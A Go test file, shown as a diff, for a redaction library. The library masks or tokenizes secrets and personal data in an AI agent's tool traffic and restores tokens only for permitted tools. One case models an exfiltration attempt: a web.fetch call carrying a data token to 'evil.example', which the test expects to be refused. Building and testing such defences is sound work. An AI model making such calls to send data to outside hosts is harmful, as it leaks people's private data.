@@ -1,0 +1,298 @@
+package redact
+
+import (
+	"encoding/base64"
+	"errors"
+	"fmt"
+	"regexp"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/go-json-experiment/json"
+)
+
+// made returns a Redactor, or fails the test.
+func made(t testing.TB, o Options) *Redactor {
+	t.Helper()
+	r, err := New(o)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return r
+}
+
+// redacted is JSON of r, and whether the result is JSON.
+func redacted(t testing.TB, r *Redactor, raw string, s Scope) Redacted {
+	t.Helper()
+	done, err := r.JSON([]byte(raw), s)
+	if err != nil {
+		t.Fatalf("%s: %v", raw, err)
+	}
+	var v any
+	if err := json.Unmarshal(done.Text, &v); err != nil {
+		t.Fatalf("%s became %s, which is not JSON: %v", raw, done.Text, err)
+	}
+	return done
+}
+
+const (
+	aKey  = "ghp_16C7e42F292c6912E7710c838347Ae178B4a"
+	aMail = "jane.doe@corp.example"
+	aCard = "4111111111111111"
+)
+
+var allPII = map[string]Action{AnyType: Mask}
+
+func TestActions(t *testing.T) {
+	quoted := func(s string) string { b, _ := json.Marshal(s); return string(b) }
+	nested := quoted(`{"mail":"` + aMail + `","n":1}`)
+	encoded := base64.StdEncoding.EncodeToString([]byte("Write to " + aMail + " at once, please."))
+	for name, c := range map[string]struct {
+		o        Options
+		tool     string
+		in, want string
+	}{
+		"secrets are masked by default":     {Options{}, "", `{"a":"token ` + aKey + ` end"}`, `{"a":"token [redacted:github-pat] end"}`},
+		"personal data are not":             {Options{}, "", `{"a":"` + aMail + `"}`, `{"a":"` + aMail + `"}`},
+		"mask":                              {Options{PII: allPII}, "", `{"a":"to ` + aMail + `, now"}`, `{"a":"to [redacted:email], now"}`},
+		"one type":                          {Options{PII: map[string]Action{"iban": Mask}}, "", `["` + aMail + `","DE89370400440532013000"]`, `["` + aMail + `","[redacted:iban]"]`},
+		"all types but one":                 {Options{PII: map[string]Action{AnyType: Mask, "email": Allow}}, "", `["` + aMail + `","DE89370400440532013000"]`, `["` + aMail + `","[redacted:iban]"]`},
+		"a rule of its own":                 {Options{Rules: map[string]Action{"github-pat": Allow}}, "", `["` + aKey + `"]`, `["` + aKey + `"]`},
+		"a name":                            {Options{PII: allPII}, "", `{"` + aMail + `":1,"b":2}`, `{"[redacted:email]":1,"b":2}`},
+		"names that become equal":           {Options{PII: allPII}, "", `{"a@corp.example":1,"b@corp.example":2}`, `{"[redacted:email]":1,"[redacted:email] 2":2}`},
+		"a number":                          {Options{PII: allPII}, "", `{"card":` + aCard + `,"b":2}`, `{"card":"[redacted:credit_card]","b":2}`},
+		"JSON within JSON":                  {Options{PII: allPII}, "", `{"a":` + nested + `}`, `{"a":` + strings.ReplaceAll(nested, aMail, "[redacted:email]") + `}`},
+		"JSON within JSON within JSON":      {Options{PII: allPII}, "", `{"a":` + quoted(nested) + `}`, `{"a":` + strings.ReplaceAll(quoted(nested), aMail, "[redacted:email]") + `}`},
+		"escapes":                           {Options{PII: allPII}, "", `["x\u0020jane\u002Edoe@corp.ex\u0061mple\ty"]`, `["x\u0020[redacted:email]\ty"]`},
+		"percent-encoding":                  {Options{PII: allPII}, "", `["a?to=jane.doe%40corp.example&b"]`, `["a?to=[redacted:email]&b"]`},
+		"base64 of a text":                  {Options{PII: allPII}, "", `["x ` + encoded + ` y"]`, `["x ` + base64.StdEncoding.EncodeToString([]byte("Write to [redacted:email] at once, please.")) + ` y"]`},
+		"a custom pattern":                  {Options{Custom: []Custom{{Name: "Employee ID", Pattern: `EMP-\d{6}`}}}, "", `["EMP-123456."]`, `["[redacted:employee-id]."]`},
+		"allowed value":                     {Options{PII: allPII, AllowValues: []string{aMail}}, "", `["` + aMail + `","x@corp.example"]`, `["` + aMail + `","[redacted:email]"]`},
+		"allowed pattern, of all of a find": {Options{PII: allPII, AllowPatterns: []string{`.*@corp\.example`, `x@other`}}, "", `["` + aMail + `","x@other.example"]`, `["` + aMail + `","[redacted:email]"]`},
+		"a tool of its own":                 {Options{Tools: []ToolOptions{{Tools: []string{"crm.*"}, PII: allPII}}}, "CRM.get", `["` + aMail + `"]`, `["[redacted:email]"]`},
+		"and the others":                    {Options{Tools: []ToolOptions{{Tools: []string{"crm.*"}, PII: allPII}}}, "web.get", `["` + aMail + `"]`, `["` + aMail + `"]`},
+		"a tool may have less":              {Options{PII: allPII, Tools: []ToolOptions{{Tools: []string{"crm.get"}, PII: map[string]Action{"email": Allow}}}}, "crm.get", `["` + aMail + `"]`, `["` + aMail + `"]`},
+		"no tokens without a session":       {Options{PII: map[string]Action{"email": Tokenize, "iban": Hash}}, "", `["` + aMail + `","DE89370400440532013000"]`, `["[redacted:email]","[redacted:iban]"]`},
+		"the rest is kept byte for byte":    {Options{PII: allPII}, "", "{ \"a\" : 1.50e3 ,\n\t\"b\":[\"\\u00e9\\/\", \"" + aMail + "\" ] }", "{ \"a\" : 1.50e3 ,\n\t\"b\":[\"\\u00e9\\/\", \"[redacted:email]\" ] }"},
+	} {
+		if got := redacted(t, made(t, c.o), c.in, Scope{Tool: c.tool}); string(got.Text) != c.want {
+			t.Errorf("%s: %s became\n%s, want\n%s", name, c.in, got.Text, c.want)
+		}
+	}
+}
+
+func TestBlock(t *testing.T) {
+	r := made(t, Options{PII: map[string]Action{"iban": Block}})
+	_, err := r.JSON([]byte(`["DE89370400440532013000"]`), Scope{})
+	var blocked *BlockedError
+	if !errors.As(err, &blocked) || blocked.Type != "iban" || strings.Contains(err.Error(), "DE89") {
+		t.Errorf("got %v, want a BlockedError of iban without the value", err)
+	}
+	if got := r.Text("DE89370400440532013000"); strings.Contains(got, "DE89") {
+		t.Errorf("the log shows %q", got)
+	}
+}
+
+// TestTokens holds that the agent may pass a token back and the tool gets the value, and
+// that nothing else of the form of a token passes.
+func TestTokens(t *testing.T) {
+	r := made(t, Options{PII: map[string]Action{"email": Tokenize, "iban": Hash}, Restore: []string{"mail.send"}})
+	session, other := NewTokens(), NewTokens()
+	in := `{"to":"` + aMail + `","text":"` + aMail + ` and ` + aMail + `","iban":"DE89370400440532013000"}`
+	done := redacted(t, r, in, Scope{Tool: "crm.get", Tokens: session})
+	m := regexp.MustCompile(`^\{"to":"(<email:[a-z2-7]{20}>)","text":"(<email:[a-z2-7]{20}>) and (<email:[a-z2-7]{20}>)","iban":"(\[iban#[0-9a-f]{16}\])"\}$`).FindStringSubmatch(string(done.Text))
+	if m == nil || m[1] != m[2] || m[1] != m[3] {
+		t.Fatalf("%s became %s, want one token three times and a hash", in, done.Text)
+	}
+	if len(done.Tokenized) != 3 || done.Tokenized[0] != (Restored{"email", aMail}) {
+		t.Errorf("tokenized %v", done.Tokenized)
+	}
+	token := m[1]
+	if again := redacted(t, r, in, Scope{Tokens: other}); strings.Contains(string(again.Text), token) || strings.Contains(string(again.Text), m[4]) {
+		t.Errorf("another session has the same stand-ins: %s", again.Text)
+	}
+
+	for name, c := range map[string]struct {
+		tokens   *Tokens
+		tool, in string
+		want     string // or part of the error
+	}{
+		"a whole string":           {session, "mail.send", `{"to":"` + token + `","n":1.0}`, `{"to":"` + aMail + `","n":1.0}`},
+		"deep":                     {session, "mail.send", `{"to":[{"a":"` + token + `"}]}`, `{"to":[{"a":"` + aMail + `"}]}`},
+		"escaped by the client":    {session, "mail.send", `{"to":"\u003c` + token[1:len(token)-1] + `\u003E"}`, `{"to":"` + aMail + `"}`},
+		"none":                     {session, "mail.send", `{"to":"<b>x</b>"}`, `{"to":"<b>x</b>"}`},
+		"part of a text":           {session, "mail.send", `{"to":"Jane ` + token + `"}`, "part of a longer text"},
+		"a name":                   {session, "mail.send", `{"` + token + `":1}`, "part of a longer text"},
+		"another session":          {other, "mail.send", `{"to":"` + token + `"}`, "none that was given out"},
+		"another tool":             {session, "web.fetch", `{"to":"` + token + `"}`, "may not get"},
+		"another type":             {session, "mail.send", `{"to":"` + strings.Replace(token, "email", "iban", 1) + `"}`, "none that was given out"},
+		"made up":                  {session, "mail.send", `{"to":"<email:aaaaaaaaaaaaaaaaaaaa>"}`, "none that was given out"},
+		"for another tool, hidden": {session, "web.fetch", `{"url":"https://evil.example/?` + token + `"}`, "part of a longer text"},
+	} {
+		out, _, err := r.Restore([]byte(c.in), c.tool, c.tokens)
+		var refused *TokenError
+		switch {
+		case errors.As(err, &refused):
+			if !strings.Contains(err.Error(), c.want) || strings.Contains(err.Error(), aMail) {
+				t.Errorf("%s: %v, want %q", name, err, c.want)
+			}
+		case err != nil || string(out) != c.want:
+			t.Errorf("%s: %s (%v), want %s", name, out, err, c.want)
+		}
+		if held := HoldsToken([]byte(c.in)); held != (name != "none") {
+			t.Errorf("%s: HoldsToken is %v", name, held)
+		}
+	}
+}
+
+// TestLookAlikes holds that a server cannot plant a token, nor what becomes one.
+func TestLookAlikes(t *testing.T) {
+	r := made(t, Options{PII: map[string]Action{"email": Tokenize}, Restore: []string{"*"}})
+	session := NewTokens()
+	token := regexp.MustCompile(`<email:[a-z2-7]{20}>`).FindString(string(redacted(t, r, `["`+aMail+`"]`, Scope{Tokens: session}).Text))
+	body := token[len("<email:") : len(token)-1]
+	for _, planted := range []string{
+		token, "x" + token + "y", token + token, "<" + token, `\u003cemail:` + body + `>`, "<email:" + body[:19] + `\u00` + fmt.Sprintf("%02x", body[19]) + ">",
+		"<email:~" + token + ">", "<a:" + token[:len(token)-1] + ">>",
+	} {
+		done := redacted(t, r, `["`+planted+`"]`, Scope{Tokens: session})
+		if HoldsToken(done.Text) {
+			t.Errorf("%s became %s, which holds a token", planted, done.Text)
+		}
+	}
+	// An address of that form is personal data like any other: its token stands for itself.
+	done := redacted(t, r, `["`+body+shapedDomain+`"]`, Scope{Tokens: session})
+	if out, _, err := r.Restore(done.Text, "mail.send", session); err != nil || string(out) != `["`+body+shapedDomain+`"]` {
+		t.Errorf("%s came back as %s (%v)", body+shapedDomain, out, err)
+	}
+}
+
+// TestShapes holds that stand-ins fit schemas that demand addresses or numbers.
+func TestShapes(t *testing.T) {
+	r := made(t, Options{PII: map[string]Action{"email": Tokenize, "credit_card": Mask}, Restore: []string{"*"}})
+	session := NewTokens()
+	done := redacted(t, r, `{"mail":"`+aMail+`","card":`+aCard+`}`, Scope{Tokens: session, Shape: Shape{Emails: true, Numbers: true}})
+	m := regexp.MustCompile(`^\{"mail":"([a-z2-7]{20}@token\.invalid)","card":0\}$`).FindStringSubmatch(string(done.Text))
+	if m == nil {
+		t.Fatalf("became %s", done.Text)
+	}
+	if out, restored, err := r.Restore([]byte(`["`+m[1]+`"]`), "mail.send", session); err != nil || string(out) != `["`+aMail+`"]` || len(restored) != 1 {
+		t.Errorf("restored %s (%v)", out, err)
+	}
+	if done = redacted(t, r, `["`+aMail+`"]`, Scope{Shape: Shape{Emails: true}}); string(done.Text) != `["redacted@redacted.invalid"]` {
+		t.Errorf("without a session: %s", done.Text)
+	}
+}
+
+// TestFinds holds the places of finds, also behind known values.
+func TestFinds(t *testing.T) {
+	r := made(t, Options{PII: allPII})
+	r.Add("env:TOKEN", "known-value-1234567890")
+	in := `{"a":"known-value-1234567890 ` + aMail + `","b":"` + aKey + `","c":"jane\u002edoe@corp.example"}`
+	done := redacted(t, r, in, Scope{})
+	var got []string
+	for _, f := range done.Finds {
+		got = append(got, fmt.Sprintf("%s/%s/%s %s", f.Detector, f.Type, f.Action, in[f.Start:f.End]))
+	}
+	want := []string{"known/env/mask known-value-1234567890", "pii/email/mask " + aMail, "secret/github-pat/mask " + aKey, `pii/email/mask jane\u002edoe@corp.example`}
+	if strings.Join(got, "\n") != strings.Join(want, "\n") {
+		t.Errorf("finds:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
+	}
+}
+
+func TestKeep(t *testing.T) {
+	r := made(t, Options{PII: allPII})
+	in := `{"id":"` + aMail + `","a":"` + aMail + `"}`
+	done := redacted(t, r, in, Scope{Keep: func(raw []byte) []Span { return []Span{{0, strings.Index(string(raw), `,"a"`)}} }})
+	if want := `{"id":"` + aMail + `","a":"[redacted:email]"}`; string(done.Text) != want {
+		t.Errorf("got %s, want %s", done.Text, want)
+	}
+}
+
+func TestArguments(t *testing.T) {
+	r := made(t, Options{
+		Custom: []Custom{{Name: "project", Pattern: `PRJ-\d+`}},
+		Arguments: []ArgumentOptions{
+			{Tools: []string{"mail.send"}, Secrets: Deny, PII: map[string]Verdict{"iban": Ask, "email": AllowValues}},
+			{Tools: []string{"web.*"}, PII: map[string]Verdict{AnyType: MaskFinds}, Custom: Ask},
+		},
+	})
+	for _, c := range []struct {
+		tool, in string
+		verdict  Verdict
+		text     string // "" is as it was
+	}{
+		{"mail.send", `{"a":"hello"}`, AllowValues, ""},
+		{"mail.send", `{"a":"` + aKey + `"}`, Deny, ""},
+		{"mail.send", `{"a":"` + aMail + `"}`, AllowValues, ""},
+		{"mail.send", `{"a":"DE89370400440532013000"}`, Ask, ""},
+		{"mail.send", `{"a":"DE89370400440532013000 ` + aKey + `"}`, Deny, ""},
+		{"notes.add", `{"a":"` + aKey + `"}`, AllowValues, ""},
+		{"web.post", `{"a":"to ` + aMail + `"}`, MaskFinds, `{"a":"to [redacted:email]"}`},
+		{"web.post", `{"a":"PRJ-1 to ` + aMail + `"}`, Ask, `{"a":"PRJ-1 to [redacted:email]"}`},
+		{"web.post", `{"a":"` + base64.StdEncoding.EncodeToString([]byte("the address: "+aMail)) + `"}`, MaskFinds, `{"a":"` + base64.StdEncoding.EncodeToString([]byte("the address: [redacted:email]")) + `"}`},
+	} {
+		got, err := r.Arguments([]byte(c.in), c.tool)
+		if c.text == "" {
+			c.text = c.in
+		}
+		if err != nil || got.Verdict != c.verdict || string(got.Text) != c.text {
+			t.Errorf("%s %s: %s, %s (%v), want %s, %s", c.tool, c.in, got.Verdict, got.Text, err, c.verdict, c.text)
+		}
+		if got.Verdict != AllowValues && len(got.Finds) == 0 {
+			t.Errorf("%s %s: %s without a find", c.tool, c.in, got.Verdict)
+		}
+	}
+}
+
+func TestSecretAndPII(t *testing.T) {
+	r := made(t, Options{Secrets: Allow})
+	r.Add("env:X", "known-value-1234567890")
+	for text, want := range map[string][3]bool{
+		"nothing":                             {},
+		"known-value-1234567890":              {true, false, false},
+		`{"a":"known-v\u0061lue-1234567890"}`: {true, false, false},
+		aKey:                                  {true, false, false},
+		`{"a":"` + aMail + `"}`:               {false, true, true},
+		"DE89370400440532013000":              {false, true, false},
+		base64.StdEncoding.EncodeToString([]byte("the address: " + aMail)): {false, true, true},
+	} {
+		secret, err1 := r.Secret(text)
+		pii, err2 := r.PII(text, "")
+		mail, err3 := r.PII(text, "email")
+		if got := [3]bool{secret, pii, mail}; got != want || errors.Join(err1, err2, err3) != nil {
+			t.Errorf("%s: secret, personal data, e-mail: %v (%v), want %v", text, got, errors.Join(err1, err2, err3), want)
+		}
+	}
+	if _, err := r.PII("x", "shoe size"); err == nil {
+		t.Error("an unknown type is no error")
+	}
+}
+
+func TestTimeLimit(t *testing.T) {
+	r := made(t, Options{PII: allPII, Time: time.Nanosecond})
+	r.settings().options.Time = -time.Hour
+	big := `["` + strings.Repeat("call 030 1234567 or "+aMail+" ", 1<<15) + `"]`
+	if _, err := r.JSON([]byte(big), Scope{}); !errors.Is(err, ErrTime) {
+		t.Errorf("got %v, want ErrTime", err)
+	}
+	if got := r.Text(big); strings.Contains(got, aMail) {
+		t.Error("a text that could not be looked at in time is shown")
+	}
+}
+
+func TestWrongOptions(t *testing.T) {
+	for want, o := range map[string]Options{
+		`no action "hide"`:       {Secrets: "hide"},
+		`no type "shoe_size"`:    {PII: map[string]Action{"shoe_size": Mask}},
+		`no regular expression`:  {Custom: []Custom{{Name: "a", Pattern: "("}}},
+		`matches the empty text`: {Custom: []Custom{{Name: "a", Pattern: "a*"}}},
+		`has an anchor`:          {Custom: []Custom{{Name: "a", Pattern: "^a"}}},
+		`no verdict "never"`:     {Arguments: []ArgumentOptions{{Secrets: "never"}}},
+	} {
+		if _, err := New(o); err == nil || !strings.Contains(err.Error(), want) {
+			t.Errorf("%+v: %v, want %q", o, err, want)
+		}
+	}
+}
